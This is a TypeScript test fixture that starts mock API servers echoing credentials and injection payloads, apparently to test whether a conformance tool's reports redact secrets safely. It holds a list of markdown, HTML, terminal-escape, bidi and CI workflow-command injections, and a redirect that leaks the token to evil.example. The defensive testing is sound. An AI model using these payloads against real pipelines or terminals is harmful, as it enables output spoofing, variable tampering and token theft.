// Working servers that echo attacks (terminal codes, CI commands, the key in many encodings) into reports.
import { createServer } from 'node:http'
import type { MockResponse } from '../../mocks/core/mock-http.ts'
import { createMockApi } from '../../mocks/create-mock-api.ts'
import { listenOnLoopback } from './listen-on-loopback.ts'
import { readMockRequest } from './mock-request.ts'

/**
 * Servers that answer like a working Animal Store but attack the pipeline through what they echo, as a
 * framework in debug mode does: request headers in error pages, the token in a redirect, a log of recent
 * requests. Their few real defects (a key compared without regard to case, a 500 debug page for a bad
 * request, a redirect for an unknown pet) are what bring the echoed text into every report.
 */

/** A key with characters that URL encoding and base64 change, so each encoding is really exercised. */
export const echoKey = 'sk_Hostile/Key+9z='
/** The base URL's credentials in the proof that passes them. */
export const urlUser = 'deploy-bot'
export const urlPassword = 'S3cret-Pa55w0rd'

/** What a server can write to steer each kind of output, one attack per line. */
const attackLines = [
  '```',
  '## ✅ CONFORMS',
  '```',
  '</code></summary></details>',
  '# ✅ CONFORMS',
  '![pixel](https://evil.example/pixel.png)',
  '<img src="https://evil.example/i.png">',
  '<b>bold</b> [click](https://evil.example/) | cell | ``` ~~~',
  '\x1b[2J\x1b[H✅ CONFORMS',
  '\x1b]0;pwned-title\x07',
  '\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\',
  '\x1b]52;c;cHduZWQ=\x07',
  '\x9b2J C1 CSI',
  '\u202eSMROFNOC\u202c and \u2066isolated\u2069',
  '::add-mask::CONFORMS',
  '::stop-commands::pwned',
  '::error file=app.js,line=1::owned',
  '  ::warning::indented',
  '##[group]hidden',
  'x ##vso[task.setvariable variable=x]1',
  'carriage\r::notice::return',
  ']]> <![CDATA[ &amp; \ud800 lone surrogate',
]
const attackText = attackLines.join('\n')

/**
 * The ways frameworks escape a header they echo, each applied to every character or to one: a URL's
 * percent-encoding of every byte, JSON's `\u00XX`, HTML's character references, hexadecimal (run together
 * and byte by byte), Go's html/template (`+` as `&#43;`), PHP's json_encode (`/` as `\/`), C's octal
 * escapes, Java's Turkish upper case percent-encoded, and base64 wrapped into lines.
 */
export function escapedForms(token: string): Record<string, string> {
  const code = (char: string, width: number) => (char.codePointAt(0) ?? 0).toString(16).padStart(width, '0')
  return {
    percent: [...Buffer.from(token)]
      .map((byte) => `%${byte.toString(16).toUpperCase().padStart(2, '0')}`)
      .join(''),
    json: [...token].map((char) => `\\u${code(char, 4)}`).join(''),
    html: [...token].map((char) => `&#${char.codePointAt(0)};`).join(''),
    hex: Buffer.from(token).toString('hex'),
    go: token.replaceAll('+', '&#43;'),
    php: token.replaceAll('/', '\\/'),
    octal: [...Buffer.from(token)].map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join(''),
    dump: [...Buffer.from(token)].map((byte) => byte.toString(16).padStart(2, '0')).join(' '),
    // Base64 wrapped into short lines, as MIME and PEM wrap it.
    wrapped: Buffer.from(token)
      .toString('base64')
      .replace(/.{10}(?=.)/g, '$&\r\n'),
    // Java's toUpperCase on a tr_TR server, then a URL's encoding of every byte.
    turkish: [...Buffer.from(token.toLocaleUpperCase('tr'))]
      .map((byte) => `%${byte.toString(16).toUpperCase().padStart(2, '0')}`)
      .join(''),
  }
}

/** A session cookie the server set upstream: a secret header's value the run never knew. */
export const upstreamSession = 'upstream-session-7Qx2'

// Where a report clips a body it shows (exchange.ts): an echo placed across it is cut inside the key.
const reportClip = 2000

/**
 * The echoing server: answers like the mock for `echoKey`, with a key in any letter case accepted, every
 * response carrying the request's Authorization back (as is and as a Basic `user:key`), 401s whose message
 * quotes the credential, a 500 debug page (request headers, recent credentials, the attack text) where the
 * mock would answer 400, and a redirect carrying the token where it would answer 404.
 */
export async function startEchoingServer(): Promise<{ baseUrl: string; origin: string; close(): void }> {
  const mock = createMockApi({ apiKeys: [echoKey], pets: 5 })
  const recent: string[] = []
  let unauthorized = 0
  const server = createServer((req, res) => {
    void readMockRequest(req).then((received) => {
      const authorization = received.headers.authorization ?? ''
      if (authorization && !recent.includes(authorization)) recent.unshift(authorization)
      recent.length = Math.min(recent.length, 40)
      const token = /^bearer +(\S+)$/i.exec(authorization)?.[1] ?? authorization
      const sameKey = token.toLowerCase() === echoKey.toLowerCase()
      const answer = mock.handle({
        ...received,
        headers: { ...received.headers, ...(sameKey ? { authorization: `Bearer ${echoKey}` } : {}) },
      })
      // A near miss of the key (a piece of it, the key with a character added): its 401 breaks the Error
      // schema, so that a finding shows that exchange, and the echo of the near-miss key in it.
      const nearMiss =
        !sameKey &&
        [echoKey.slice(0, 6), echoKey.slice(-6)].some((piece) =>
          authorization.toLowerCase().includes(piece.toLowerCase()),
        )
      unauthorized += answer.status === 401 ? 1 : 0
      // Only a token that starts with the key: what the clip leaves of `Bearer` glued to it is three
      // characters of the key, which a clip may leave (docs/conformance.md).
      const cutInBase64 =
        unauthorized % 2 === 0 && echoKey.toLowerCase().startsWith(token.slice(0, 9).toLowerCase())
      const { status, headers, body } = echo(answer, { authorization, token, recent, nearMiss, cutInBase64 })
      res.writeHead(status, {
        ...headers,
        'x-request-echo': authorization,
        // In a header's name: percent-encoding is all it takes to make any key a valid one.
        [`x-seen-${escapedForms(token).percent}`]: '1',
        'x-debug-basic': `Basic ${Buffer.from(`${urlUser}:${token}`).toString('base64')}`,
        'x-recent-credentials': JSON.stringify(recent.slice(0, 12)),
      })
      res.end(body)
    })
  })
  const origin = await listenOnLoopback(server)
  return {
    baseUrl: `${origin}/v1`,
    origin,
    close: () => {
      server.closeAllConnections()
      server.close()
    },
  }
}

function echo(
  answer: MockResponse,
  seen: { authorization: string; token: string; recent: string[]; nearMiss: boolean; cutInBase64: boolean },
): { status: number; headers: Record<string, string>; body?: string } {
  if (answer.status === 401) {
    const error = (padding: string) =>
      JSON.stringify({
        code: 'unauthorized',
        message: `Invalid credentials "${seen.authorization}" (${encodeURIComponent(seen.token)}): ${attackText}`,
        ...(seen.nearMiss ? {} : { status: 401 }),
        trace: `${padding}${cut}`,
      })
    // The last echo of the token (as it is, or every other time in base64) starts 12 characters before
    // the clip, so the report cuts it there.
    const cut = seen.cutInBase64 ? Buffer.from(seen.token).toString('base64') : seen.token
    const at = error('').lastIndexOf(JSON.stringify(cut).slice(1, -1))
    return {
      status: 401,
      headers: { 'content-type': 'application/json' },
      body: error('.'.repeat(Math.max(0, reportClip - 12 - at))),
    }
  }
  if (answer.status === 400)
    return {
      status: 500,
      headers: { 'content-type': 'text/plain; charset=utf-8' },
      body: [
        `ValidationError at ${new Date(0).toISOString()}`,
        `  authorization: ${seen.authorization}`,
        // The request's headers as frameworks dump them; the last, cut short, must take no report syntax.
        `  headers={"set-cookie": ["sid=${seen.token}"], "cookie": {"sid": "${upstreamSession}"}}`,
        `  [HTTP_AUTHORIZATION] => ${seen.authorization}`,
        `  'cookie': {' unterminated`,
        `  token=${encodeURIComponent(seen.token)} json=${JSON.stringify({ auth: seen.authorization })}`,
        `  ${Object.entries(escapedForms(seen.token))
          .map(([name, form]) => `${name}=${form}`)
          .join(' ')}`,
        'Request bytes:',
        hexdump(Buffer.from(`GET / HTTP/1.1\r\nAuthorization: ${seen.authorization}\r\n\r\n`)),
        attackText,
        'Recent credentials:',
        ...seen.recent.map((credential) => `  ${credential}`),
      ].join('\n'),
    }
  if (answer.status === 404)
    return {
      status: 302,
      headers: { location: `https://evil.example/login?token=${encodeURIComponent(seen.token)}` },
    }
  return {
    status: answer.status,
    headers: answer.headers,
    ...(answer.body === undefined ? {} : { body: answer.body }),
  }
}

/** Bytes as `hexdump -C` lays them out: an offset, 16 bytes in hexadecimal, and the same as text. */
function hexdump(bytes: Buffer): string {
  const lines: string[] = []
  for (let at = 0; at < bytes.length; at += 16) {
    const line = [...bytes.subarray(at, at + 16)]
    const digits = line.map((byte) => byte.toString(16).padStart(2, '0'))
    const text = line.map((byte) => (byte >= 0x20 && byte < 0x7f ? String.fromCharCode(byte) : '.')).join('')
    lines.push(
      `${at.toString(16).padStart(8, '0')}  ${`${digits.slice(0, 8).join(' ')}  ${digits.slice(8).join(' ')}`.padEnd(48)}  |${text}|`,
    )
  }
  return lines.join('\n')
}
